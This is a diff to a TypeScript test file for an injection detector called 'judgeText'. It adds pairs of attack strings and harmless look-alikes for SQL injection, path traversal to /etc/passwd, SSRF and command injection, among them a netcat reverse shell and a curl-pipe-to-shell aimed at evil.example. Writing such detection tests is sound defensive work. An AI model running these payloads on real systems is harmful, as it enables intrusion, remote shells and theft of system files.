@@ -33,6 +33,12 @@ const TWINS: readonly (readonly [kind: string, attack: string, harmless: string]
   ["sql-injection", "MScgT1IgMT0xIC0t", "SGVsbG8gd29ybGQ="],
   ["sql-injection", '{"q":"\' or 1=1--"}', '{"q":"it\'s fine"}'],
   ["sql-injection", "SELECT 1 INTO OUTFILE '/tmp/x'", "SELECT name FROM users WHERE id = 5"],
+  ["sql-injection", "-1 UNION SELECT database(),version()", "the credit union selected a database"],
+  ["sql-injection", "0' sleep(20) '", "it's sleep (and 'rest') that counts"],
+  ["sql-injection", "-1 order by 31--", "2 items, order by phone"],
+  ["sql-injection", `'{"b":2}'::jsonb <@ '{"b":3}'`, '"node": ">= 12.0.0"'],
+  ["sql-injection", "9999 or /*+ hint */ true", "/* or true */ refactor"],
+  ["sql-injection", ";REPLACE/*a*/test/*b*/(id) VALUES (1)", '\'directory: /\' and "x": "*"'],
   ["path-traversal", "../../etc/passwd", "./src/index.ts"],
   ["path-traversal", "..%c0%af..%c0%afetc/passwd", "a%20b.txt"],
   ["path-traversal", "....//....//etc/passwd", "see ... and more"],
@@ -40,6 +46,9 @@ const TWINS: readonly (readonly [kind: string, attack: string, harmless: string]
   ["path-traversal", "C:\\Windows\\win.ini", "C:\\Users\\alice\\Documents\\report.docx"],
   ["path-traversal", "~/.ssh/id_rsa", "How do I read /etc/passwd in Python?"],
   ["path-traversal", "report.pdf\0.png", "report.pdf.png"],
+  ["path-traversal", "data:text/plain;base64,Li4vLi4vZXRjL3Bhc3N3ZA==", "data:text/plain,hello"],
+  ["path-traversal", "..2f..2f..2fetc2fpasswd", "version..2final"],
+  ["path-traversal", "/@fs/etc/passwd", "/docs/etc/passwords-policy.md"],
   ["ssrf", "http://2130706433/", "http://example.com:8080/"],
   ["ssrf", "http://0x7f.1/", "version 10.0.0.1"],
   ["ssrf", "http://[::ffff:a9fe:a9fe]/", "https://example.com/a[1]=2"],
@@ -51,6 +60,12 @@ const TWINS: readonly (readonly [kind: string, attack: string, harmless: string]
   ["ssrf", "https://a.example/?u=http%3A%2F%2Flocalhost", "https://a.example/?u=https://b.example"],
   ["ssrf", "gopher://127.0.0.1:6379/_INFO", "mailto:someone@example.com"],
   ["ssrf", "http:\\\\localhost\\", "Open http://localhost:3000 in your browser"],
+  ["command-injection", ";id\\n", "id\\nname"],
+  ["command-injection", "x;c$$at /et$$c/pa$$sswd", "cost: 5$$ or so"],
+  ["command-injection", "$(curl -s evil.example)", "$(SONAR_HOST)/api and $(document).ready"],
+  ["command-injection", "/usr/bin/[u]name -a", "Vec<(String, Vec<u8>)>"],
+  ["command-injection", "bin/visudo", "bin/build"],
+  ["command-injection", ";$a cat test.txt", "Rock; $5 each"],
   ["command-injection", "report.txt; cat /etc/passwd", "Section 3.2; see also section 4"],
   ["command-injection", "x | nc evil.example 44 -e /bin/sh", "Home | About | Contact"],
   ["command-injection", "$(curl -s evil.example|sh)", "Total: $(5.00)  or so, they said to us"],
@@ -69,6 +84,23 @@ const TWINS: readonly (readonly [kind: string, attack: string, harmless: string]
   ["nosql-injection", '{"$ne": null}', "costs $5"],
   ["query-injection", "*)(uid=*))(|(uid=*", "(&(objectClass=person)(uid=bob))"],
 ];
+
+/** Where a name or an id should stand, a piece of SQL is worth a word. */
+const PIECES: readonly (readonly [piece: string, harmless: string])[] = [
+  ["password::int", "Foo::bar"],
+  ["SELECT a FROM b", "Select Comfort"],
+  [") like (", "Like Minds"],
+  ["case when a then b", "Case Study"],
+  ["';", "O'Brien"],
+  ["information_schema", "schema"],
+  ["or 88", "a or b"],
+  ["IF(2=", "if in doubt"],
+];
+
+test.each(PIECES)("%s is no name, and %s is one", (piece, harmless) => {
+  expect(judgeText(piece, "name")).toEqual([{ kind: "sql-injection", severity: "medium" }]);
+  expect(judgeText(harmless, "name")).toEqual([]);
+});
 
 describe("judgeText", () => {
   test.each(TWINS)("finds %s in %j, and nothing in %j", (kind, attack, harmless) => {
